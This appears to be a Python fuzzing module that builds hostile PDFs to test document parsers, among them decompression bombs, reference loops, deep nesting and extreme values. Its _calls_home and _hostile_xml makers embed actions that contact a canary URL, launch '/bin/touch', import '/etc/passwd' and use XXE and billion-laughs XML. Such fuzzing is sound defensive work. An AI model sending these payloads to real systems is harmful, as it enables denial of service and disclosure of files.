"""PDFs made to exhaust, to loop or to call home."""

import random
import zlib
from collections.abc import Callable
from functools import cache

from benchmarks.fuzz.seeds import hybrid_pdf, text_pdf

Maker = Callable[[random.Random, str], bytes]


def pdf(objects: dict[int, bytes], root: bytes = b"<</Type/Catalog/Pages 2 0 R>>") -> bytes:
    """A file of numbered objects; the catalogue is object 1."""
    out, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in {1: root, **objects}.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in places.items():
        out += b"%d 1\n%010d 00000 n \n" % (number, place)
    return bytes(out) + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (max(places) + 1, start)


def one_page(
    content: bytes = b"BT /F1 12 Tf 50 50 Td (Total 54.00) Tj ET",
    page: bytes = b"",
    resources: bytes = b"",
    extra: dict[int, bytes] | None = None,
    root: bytes = b"",
    box: bytes = b"[0 0 200 200]",
) -> bytes:
    """A page whose parts can each be replaced; further objects from number 10 on."""
    objects = {
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox%b/Contents 4 0 R/Resources 5 0 R%b>>" % (box, page),
        4: stream(content),
        5: b"<</Font<</F1 6 0 R>>%b>>" % resources,
        6: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    return pdf(objects | (extra or {}), b"<</Type/Catalog/Pages 2 0 R%b>>" % root)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(data), entries, data)


@cache
def exploding(megabytes: int, layers: int = 1, fill: bytes = b" ") -> bytes:
    """So many megabytes, compressed `layers` times."""
    chunk = fill * (1024 * 1024 // len(fill))
    packer = zlib.compressobj(9, wbits=-15)
    # After a full flush nothing refers back: the same bytes stand for the same chunk wherever they are.
    packed = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(megabytes):
        checksum = zlib.adler32(chunk, checksum)
    data = b"\x78\xda" + packed * megabytes + b"\x03\x00" + checksum.to_bytes(4, "big")
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    return data


def _flate_bomb(chance: random.Random, canary: str) -> bytes:
    layers, megabytes = chance.choice((1, 2, 3)), chance.choice((50, 400, 1500))
    fill = chance.choice((b" ", b"0 0 m 9 9 l S ", b"q "))
    filters = b"/Filter[" + b"/FlateDecode" * layers + b"]"
    return one_page(extra={4: stream(exploding(megabytes, layers, fill), filters)})


def _picture_bomb(chance: random.Random, canary: str) -> bytes:
    side = chance.choice((20_000, 100_000, 2_000_000_000))
    entries = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/%b/BitsPerComponent %d/Filter/FlateDecode" % (
        side, chance.choice((side, 1)), chance.choice((b"DeviceRGB", b"DeviceGray")), chance.choice((1, 8, 16)),
    )  # fmt: skip
    image = stream(exploding(chance.choice((1, 100)), 1, b"\0"), entries)
    return one_page(b"q 200 0 0 200 0 0 cm /I Do Q", resources=b"/XObject<</I 10 0 R>>", extra={10: image})


def _object_stream_bomb(chance: random.Random, canary: str) -> bytes:
    count = chance.choice((10, 10**6, 2**31 - 1))
    body = stream(exploding(300), b"/Type/ObjStm/N %d/First %d/Filter/FlateDecode" % (count, chance.choice((5, 10**9))))
    return one_page(extra={10: body, 5: b"10 0 R"})


def _loop(chance: random.Random, canary: str) -> bytes:
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 200 200]/Resources<</XObject<</X 10 0 R>>>>"
    tiles = b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep %b/YStep 1" % chance.choice(
        (b"1", b"0", b"0.00001")
    )
    choices: tuple[Callable[[], bytes], ...] = (
        lambda: pdf({2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"}),
        lambda: pdf({2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
                     3: b"<</Type/Pages/Kids[2 0 R]/Count 9/Parent 3 0 R>>"}),
        lambda: one_page(b"/X Do", resources=b"/XObject<</X 10 0 R>>", extra={10: stream(b"/X Do " * 20, form)}),
        lambda: one_page(
            b"/Pattern cs /P scn 0 0 200 200 re f",
            resources=b"/Pattern<</P 10 0 R>>",
            extra={10: stream(b"/Pattern cs /P scn 0 0 9 9 re f", tiles + b"/Resources 5 0 R")},
        ),
        lambda: one_page(extra={4: b"[4 0 R 4 0 R]"}),
        lambda: one_page(extra={4: b"4 0 R", 5: b"5 0 R", 6: b"6 0 R"}),
        lambda: one_page(extra={6: b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs"
                                   b"<</T 10 0 R>>/Encoding<</Differences[84/T]>>/FirstChar 84/LastChar 84/Widths[1]"
                                   b"/Resources 5 0 R>>", 10: stream(b"BT /F1 1 Tf (TT) Tj ET")}),
        lambda: one_page(b"/C cs 1 sc 0 0 9 9 re f", resources=b"/ColorSpace<</C 10 0 R>>",
                         extra={10: b"[/Indexed 10 0 R 1 (ab)]"}),
        lambda: one_page(extra={4: b"<</Length 4 0 R>>stream\nBT ET\nendstream"}),
        lambda: one_page(root=b"/Outlines 10 0 R", extra={10: b"<</First 10 0 R/Next 10 0 R/Last 10 0 R>>"}),
    )  # fmt: skip
    return chance.choice(choices)()


def _deep(chance: random.Random, canary: str) -> bytes:
    depth = chance.choice((200, 5_000, 100_000))
    opening, closing = chance.choice(((b"[", b"]"), (b"<</A", b">>"), (b"(", b")")))
    nested = opening * depth + closing * depth
    children = {
        number: b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (number + 1, number - 1)
        for number in range(2, 2 + depth // 20)
    }
    choices: tuple[Callable[[], bytes], ...] = (
        lambda: one_page(page=b"/X" + nested),
        lambda: one_page(nested + b" BT /F1 12 Tf 50 50 Td (Total 54.00) Tj ET"),
        lambda: one_page(b"q " * depth + b"BT /F1 12 Tf (T) Tj ET"),
        lambda: pdf(children),
    )
    return chance.choice(choices)()


def _huge(chance: random.Random, canary: str) -> bytes:
    number = chance.choice((b"1e9", b"99999999999", b"-1", b"0", b"0.000001", b"14400", b"3.4e38", b"nan"))
    box = chance.choice((b"[0 0 %b %b]" % (number, number), b"[0 0 200 %b]" % number, b"[%b 0 0 200]" % number, b"[]"))
    choices: tuple[Callable[[], bytes], ...] = (
        lambda: one_page(box=box),
        lambda: one_page(b"BT /F1 %b Tf 50 50 Td (Total 54.00) Tj ET" % number),
        lambda: one_page(b"%b 0 0 %b 0 0 cm BT /F1 12 Tf 50 50 Td (Total 54.00) Tj ET" % (number, number)),
        lambda: one_page(page=b"/UserUnit %b/Rotate %b" % (number, chance.choice((b"45", b"90", number)))),
        lambda: one_page(b"BT /F1 2 Tf 0 9 Td " + b"(Total 54.00 ) Tj " * chance.choice((1_000, 200_000)) + b"ET"),
        lambda: one_page(b"[%b 1] 0 d 0 0 m 200 200 l S " % number * chance.choice((1, 5_000))),
        lambda: pdf({2: b"<</Type/Pages/Kids[%b]/Count 9>>" % (b"3 0 R " * chance.choice((19, 200_000))),
                     3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"}),
    )  # fmt: skip
    return chance.choice(choices)()


def _calls_home(chance: random.Random, canary: str) -> bytes:
    url = canary.encode()
    goto = b"<</S/GoToR/F<</Type/Filespec/FS/URL/F(%b)>>/D[0/Fit]>>" % url
    actions = (
        b"<</S/URI/URI(%b)>>" % url,
        b"<</S/SubmitForm/F<</FS/URL/F(%b)>>>>" % url,
        b"<</S/JavaScript/JS(app.launchURL\\('%b'\\))>>" % url,
        b"<</S/Launch/F(/bin/touch /tmp/owned)>>",
        b"<</S/ImportData/F(/etc/passwd)>>",
        goto,
    )
    remote = b"/F<</FS/URL/F(%b)>>" % url
    choices: tuple[Callable[[], bytes], ...] = (
        lambda: one_page(root=b"/OpenAction " + chance.choice(actions), page=b"/AA<</O %b>>" % chance.choice(actions)),
        lambda: one_page(extra={4: stream(b"", remote)}),
        lambda: one_page(b"/X Do", resources=b"/XObject<</X 10 0 R>>", extra={10: stream(
            b"", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(%b)/Page 0>>" % url)}),
        lambda: one_page(root=b"/AcroForm<</XFA 10 0 R/Fields[]>>", extra={10: stream(
            b"<!DOCTYPE x SYSTEM '%b'><xdp:xdp><template><image href='%b'/></template></xdp:xdp>" % (url, url))}),
    )  # fmt: skip
    return chance.choice(choices)()


def _hostile_xml(chance: random.Random, canary: str) -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    documents = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary}">]><x>&e;</x>',
        f'<!DOCTYPE x SYSTEM "{canary}"><x/>',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary}"> %p;]><x/>',
        f'<!DOCTYPE x [<!ENTITY l0 "lol">{laughs}]><x>&l11;</x>',
        "<x>" * chance.choice((100, 100_000)),
        f'<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{canary}"/></x>',
        '<?xml version="1.0" encoding="utf-32"?><x/>',
        "<x>" + "a" * 20_000_000 + "</x>",
    )
    return hybrid_pdf(text_pdf(), chance.choice(documents))


MAKERS: tuple[Maker, ...] = (
    _flate_bomb, _picture_bomb, _object_stream_bomb, _loop, _loop, _deep, _huge, _huge, _calls_home, _hostile_xml,
)  # fmt: skip
